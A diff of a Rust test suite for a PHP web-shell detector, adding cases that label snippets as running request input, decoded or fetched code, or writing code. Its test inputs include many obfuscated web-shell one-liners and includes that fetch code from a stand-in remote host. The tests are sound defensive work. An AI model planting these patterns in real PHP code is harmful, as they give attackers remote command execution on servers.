@@ -10,9 +10,16 @@ fn php(code: &str) -> Vec<Does> {
     }
 }
 
+/// Each script does what fits.
+#[track_caller]
+fn each(scripts: &[&str], fits: impl Fn(&[Does]) -> bool) {
+    let others: Vec<_> = scripts.iter().map(|code| (code, php(code))).filter(|(_, does)| !fits(does)).collect();
+    assert!(others.is_empty(), "{others:#?}");
+}
+
 #[test]
 fn what_a_request_brings_is_run() {
-    for code in [
+    let scripts = [
         "eval($_POST['a']);",
         "if(false){eval(base64_decode($_POST[\"a\"]));}",
         "@eval(gzinflate(base64_decode($_COOKIE['x'])));",
@@ -46,28 +53,233 @@ fn what_a_request_brings_is_run() {
         "class A { function f() { $this->c = $_POST['c']; } function g() { eval($this->c); } }",
         "system($_SERVER['HTTP_X_CMD']);",
         "include 'php://input'; eval(file_get_contents(\"php://input\"));",
-    ] {
-        assert!(php(code).contains(&Does::RunsInput), "{code}: {:?}", php(code));
-    }
+    ];
+    each(&scripts, |does| does.contains(&Does::RunsInput));
 }
 
 #[test]
 fn what_is_decoded_or_fetched_is_run() {
-    for code in [
+    let scripts = [
         "eval(base64_decode('ZWNobyAxOw=='));",
         "$a = gzinflate(base64_decode('eJw')); eval($a);",
         "eval(str_rot13('x'));",
-    ] {
-        assert_eq!(php(code), [Does::RunsDecoded], "{code}");
-    }
+    ];
+    each(&scripts, |does| does == [Does::RunsDecoded]);
     assert_eq!(php("eval(file_get_contents('http://192.0.2.1/x'));"), [Does::RunsFetched]);
-    assert_eq!(php("file_put_contents($_GET['f'], $_POST['c']);"), [Does::WritesInput]);
+    assert_eq!(php("file_put_contents('/srv/' . $_GET['f'] . '.txt', $_POST['c']);"), [Does::WritesInput]);
     assert_eq!(php("include $_GET['page'] . '.php';"), [Does::LoadsInput]);
 }
 
 #[test]
+fn functions_that_are_not_called_by_a_plain_name() {
+    let scripts = [
+        "(\"sys\".\"tem\")($_GET['c']);",
+        "('sys'.'tem')($_GET['c']);",
+        "'system'($_GET['c']);",
+        "['system'][0]($_GET['c']);",
+        "$a = ['system']; $a[0]($_POST['x']);",
+        "$a = array('x' => 'sys'.'tem'); $a['x']($_POST['x']);",
+        "const F = 'system'; (F)($_GET['c']);",
+        "define('F', 'passthru'); (F)($_GET['c']);",
+        "(ELSEWHERE)($_GET['c']);",
+        "(\"%08%02%08\"^\"{|[\")($_POST['x']);",
+        "(~'\\x8c\\x86')($_GET['c']);",
+        "$f = \"%1a\"^\"{|[\"; $f($_POST['x']);",
+        "$f = str_replace('#', '', 's#ys#tem'); $f($_GET['c']);",
+        "$s = 'metsys'; $f = $s[5].$s[4].$s[3].$s[2].$s[1].$s[0]; $f($_GET['c']);",
+        "$f = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109); $f($_GET['c']);",
+        "base64_decode('c3lzdGVt')($_GET['c']);",
+        "(base64_decode('c3lzdGVt'))($_GET['c']);",
+        "strrev('metsys')($_GET['c']);",
+        "system(...)($_GET['c']);",
+        "Closure::fromCallable('system')($_GET['c']);",
+        "Closure::fromCallable($_GET['f'])->__invoke($_GET['c']);",
+        "$$_[_]($$_[__]);",
+        "${'_GE'.'T'}[0](${'_GE'.'T'}[1]);",
+        "$o->f = 'system'; ($o->f)($_GET['c']);",
+        "[$f, $c] = [$_GET['f'], $_GET['c']]; $f($_GET['c']);",
+        "list($f, $c) = explode('|', $_COOKIE['x']); $f($_COOKIE['y']);",
+        "$GLOBALS['f'] = $_GET['f']; $_GET['f'](...$_GET['a']);",
+    ];
+    each(&scripts, |does| does.contains(&Does::RunsInput));
+    let scripts = [
+        "$a = ['trim']; $a[0]($_POST['x']);",
+        "(int)($_GET['x']);",
+        "$this->handlers[$name]($request);",
+        "$handlers[$name]($_POST);",
+        "($this->handler)($_POST);",
+        "($handler)($_POST);",
+        "$f = 'ajax_' . $_POST['action']; $f($_POST);",
+        "$this->$action($_POST);",
+        "$x = new $_GET['module']($_GET['scope']);",
+        "if ($a) ($b)($c);",
+        "const F = 'trim'; (F)($_GET['c']);",
+        "app('exec')($_GET['c']);",
+        "strlen(...)($_GET['c']);",
+        "foo($x)['y']($_GET['c']);",
+    ];
+    each(&scripts, <[Does]>::is_empty);
+}
+
+#[test]
+fn functions_inside_others() {
+    let scripts = [
+        "(function () { eval($_POST['x']); })();",
+        "(function ($c) { eval($c); })($_POST['x']);",
+        "(static function ($c) { system($c); })($_POST['x']);",
+        "(fn($c) => system($c))($_GET['c']);",
+        "$f = fn($c) => system($c); $f($_GET['c']);",
+        "$f = function ($c) { return shell_exec($c); }; echo $f($_REQUEST['c']);",
+        "$r = (function ($c) { return shell_exec($c); })->__invoke($_REQUEST['c']);",
+        "call_user_func(function ($c) { eval($c); }, $_POST['x']);",
+        "array_map(function ($c) { eval($c); }, $_POST);",
+        "array_map(fn($c) => eval($c), $_POST);",
+        "new class($_POST['x']) { function __construct($c) { eval($c); } };",
+        "(new class { public function x($c) { system($c); } })->x($_GET['c']);",
+        "class A { static function run($c) { passthru($c); } } A::run($_GET['c']);",
+        "function run() { system(func_get_args()[0]); } run($_GET['c']);",
+        "function get() { return $_GET['c']; } system(get());",
+        "function run($c) { $f = 'sys'.'tem'; $f($c); } run($_GET['c']);",
+        "function run($c) { call_user_func('system', $c); } run($_GET['c']);",
+        "array_map('run', $_POST); function run($c) { eval($c); }",
+    ];
+    each(&scripts, |does| does.contains(&Does::RunsInput));
+    let scripts = [
+        "(function ($c) { echo $c; })($_POST['x']);",
+        "(fn($c) => trim($c))($_GET['c']);",
+        "use function array_map; array_map(fn($c) => trim($c), $_POST);",
+        "new class($_POST['x']) { function __construct($c) { echo $c; } };",
+    ];
+    each(&scripts, <[Does]>::is_empty);
+    assert_eq!(php("(fn($c) => system($c))('id');"), [Does::Runs]);
+    assert_eq!(php("$f = fn($c) => system($c); $c = $_GET['c'];"), [Does::Runs]);
+}
+
+#[test]
+fn functions_that_are_called_back() {
+    let scripts = [
+        "$r = new ReflectionFunction('system'); $r->invoke($_GET['c']);",
+        "(new ReflectionFunction('system'))->invokeArgs([$_GET['c']]);",
+        "(new ReflectionFunction($_GET['f']))->invoke($_GET['c']);",
+        "call_user_func_array($_GET['f'], array($_GET['c']));",
+        "call_user_func_array($_GET['f'], $args);",
+        "$f = $_GET['f']; call_user_func_array($f, [$_GET['c']]);",
+        "array_map($_GET['f'], [$_GET['c']]);",
+        "array_filter([$_GET['c']], 'system');",
+        "array_filter($list, $_GET['f']);",
+        "usort($list, $_GET['f']);",
+        "uasort($_GET['x'], 'assert');",
+        "register_shutdown_function($_GET['f'], $_GET['c']);",
+        "register_shutdown_function('system', $_GET['c']);",
+        "ob_start($_GET['f']); echo $_GET['c'];",
+        "ob_start('system');",
+        "iterator_apply($it, $_GET['f'], [$_GET['c']]);",
+        "preg_replace_callback('/.*/', $_GET['f'], $_GET['c']);",
+        "preg_replace_callback('/.*/', 'system', $_GET['c']);",
+        "array_udiff($_GET['x'], [1], 'system');",
+        "filter_var($_GET['c'], FILTER_CALLBACK, ['options' => 'system']);",
+        "array_map(base64_decode('c3lzdGVt'), [$_GET['c']]);",
+    ];
+    each(&scripts, |does| does.contains(&Does::RunsInput));
+    let scripts = [
+        "call_user_func([$this, $_REQUEST['action']], $_POST);",
+        "call_user_func(array('Ajax', $_REQUEST['action']), $_POST);",
+        "call_user_func('action_' . $_REQUEST['action'], $_POST);",
+        "usort($list, 'by_' . $_GET['sort']);",
+        "array_map([$this, 'exec'], $_POST);",
+        "array_filter($_POST, 'strlen');",
+        "ob_start('ob_gzhandler');",
+        "filter_var($_GET['c'], FILTER_VALIDATE_INT, ['options' => ['min_range' => 1]]);",
+        "register_shutdown_function([$this, 'stop']);",
+        "$m = new ReflectionMethod($this, $name); $m->invoke($this, $_POST);",
+        "$r = new ReflectionFunction('trim'); $r->invoke($_GET['c']);",
+    ];
+    each(&scripts, <[Does]>::is_empty);
+}
+
+#[test]
+fn what_counts_as_brought() {
+    let scripts = [
+        "$d = json_decode(file_get_contents('php://input'), true); system($d['cmd']);",
+        "$d = json_decode(file_get_contents('php://input')); eval($d->code);",
+        "system(getallheaders()['X-C']);",
+        "$h = apache_request_headers(); eval($h['X']);",
+        "system($_SERVER['HTTP_X']);",
+        "system($_SERVER['HT'.'TP_X']);",
+        "system($GLOBALS['_G'.'ET']['c']);",
+        "system($_COOKIE['x']);",
+        "system(getenv('HTTP_X'));",
+        "system($_SERVER['PHP_AUTH_PW']);",
+        "echo `{$_COOKIE['c']}`;",
+        "$c ??= $_GET['c']; system($c);",
+        "include $_GET['f'];",
+        "include($_FILES['f']['tmp_name']);",
+        "include 'php://input';",
+        "include 'data:text/plain,' . $_GET['c'];",
+    ];
+    each(&scripts, |does| does.iter().any(|does| matches!(does, Does::RunsInput | Does::LoadsInput)));
+    assert_eq!(php("include $_GET['f'];"), [Does::RunsInput]);
+    assert_eq!(php("include 'pages/' . $_GET['f'] . '.php';"), [Does::LoadsInput]);
+    assert_eq!(php("include 'data:text/plain;base64,PD9waHA=';"), [Does::RunsDecoded]);
+    assert_eq!(php("include base64_decode('L3RtcC94');"), [Does::RunsDecoded]);
+    assert_eq!(php("include 'http://192.0.2.1/x.txt';"), [Does::RunsFetched]);
+    assert_eq!(php("@include \"\\057var/www/favicon_1.ico\";"), [Does::LoadsData]);
+    assert_eq!(php("require '/tmp/x.php';"), [Does::LoadsData]);
+    let scripts = [
+        "include __DIR__ . '/icon.svg';",
+        "require dirname(__FILE__) . '/x.php';",
+        "include 'data://text/plain,' . urlencode($php);",
+        "include get_dir() . '/style.css';",
+        "echo 'include logo.png';",
+        "$_SERVER['HTTP_HOST']; system_check($_SERVER['HTTP_X']);",
+    ];
+    each(&scripts, <[Does]>::is_empty);
+    let narrow = "foreach ($_REQUEST as $k => $v) { if (!preg_match('/^([a-z0-9_]+)$/', $k)) { return; } eval($k); }";
+    assert_eq!(php(narrow), [Does::Runs]);
+    assert_eq!(php(&narrow.replace("[a-z0-9_]", ".")), [Does::RunsInput]);
+}
+
+#[test]
+fn what_is_written() {
+    let scripts = [
+        "file_put_contents($_GET['f'], $_POST['c']);",
+        "$f = $_POST['f']; $c = base64_decode($_POST['c']); file_put_contents($f, $c);",
+        "file_put_contents($x.'.php', base64_decode($_POST['c']));",
+        "file_put_contents('x.php', $_POST['c']);",
+        "file_put_contents('x.php', base64_decode('PD9waHA='));",
+        "file_put_contents('x.php', file_get_contents('http://192.0.2.1/x.txt'));",
+        "$h = fopen($_GET['f'], 'w'); fwrite($h, $_POST['c']);",
+        "fwrite(fopen('x.php', 'w'), $_POST['c']);",
+        "move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);",
+        "@copy($_FILES['f']['tmp_name'], $_FILES['f']['name']);",
+        "move_uploaded_file($_FILES['f']['tmp_name'], $_GET['d']);",
+        "$n = $_FILES['f']['name']; $t = $_FILES['f']['tmp_name']; move_uploaded_file($t, $n);",
+        "move_uploaded_file($_FILES['f']['tmp_name'], __DIR__ . '/' . $_FILES['f']['name']);",
+    ];
+    each(&scripts, |does| does == [Does::WritesCode]);
+    let scripts = [
+        "move_uploaded_file($_FILES['f']['tmp_name'], 'uploads/' . $_FILES['f']['name']);",
+        "move_uploaded_file($_FILES['f']['tmp_name'], $dir . '/' . $_FILES['f']['name']);",
+        "getimagesize($_FILES['f']['tmp_name']); move_uploaded_file($_FILES['f']['tmp_name'], $_GET['d']);",
+    ];
+    each(&scripts, |does| does == [Does::WritesInput]);
+    let scripts = [
+        "move_uploaded_file($_FILES['f']['tmp_name'], 'uploads/' . basename($_FILES['f']['name']));",
+        "$e = pathinfo($_FILES['f']['name'], PATHINFO_EXTENSION); if (!in_array($e, ['jpg'])) die(); \
+         move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);",
+        "move_uploaded_file($_FILES['f']['tmp_name'], $this->target);",
+        "$config = \"<?php define('DB', '\" . $_POST['db'] . \"');\"; file_put_contents('config.php', $config);",
+        "file_put_contents('config.php', str_replace('{db}', $_POST['db'], $template));",
+        "file_put_contents('cache.php', '<?php return ' . var_export($_POST, true) . ';');",
+        "file_put_contents($cache, $_POST['c']);",
+        "copy('a.php', $_GET['x']);",
+    ];
+    each(&scripts, <[Does]>::is_empty);
+}
+
+#[test]
 fn ordinary_code_is_quiet() {
-    for code in [
+    let scripts = [
         "$x = base64_decode($_POST['x']); echo $x;",
         "// eval($_POST['x']);\n/* eval($_POST['x']); */ # eval($_POST['x'])",
         "echo 'eval($_POST[x])';",
@@ -85,10 +297,9 @@ fn ordinary_code_is_quiet() {
         "function eval_template($x) { return $x; } eval_template($_POST['x']);",
         "$curl->exec($_POST['x']);",
         "$db->exec(\"select \" . $_POST['x']);",
-    ] {
-        assert_eq!(php(code), [], "{code}");
-    }
-    for code in [
+    ];
+    each(&scripts, <[Does]>::is_empty);
+    let scripts = [
         "exec('ls ' . escapeshellarg($_GET['d']));",
         "eval('?>' . $content);",
         "$e = str_replace('a', \"(\\$_COOKIE['x'])\", $e); eval(\"return ($e);\");",
@@ -97,9 +308,8 @@ fn ordinary_code_is_quiet() {
         "system('kill ' . (int)$_GET['pid']);",
         "function a() { $data = $_POST['x']; } function b($data) { system($data); }",
         "exec(own_quote($_POST['x']));",
-    ] {
-        assert_eq!(php(code), [Does::Runs], "{code}");
-    }
+    ];
+    each(&scripts, |does| does == [Does::Runs]);
 }
 
 #[test]
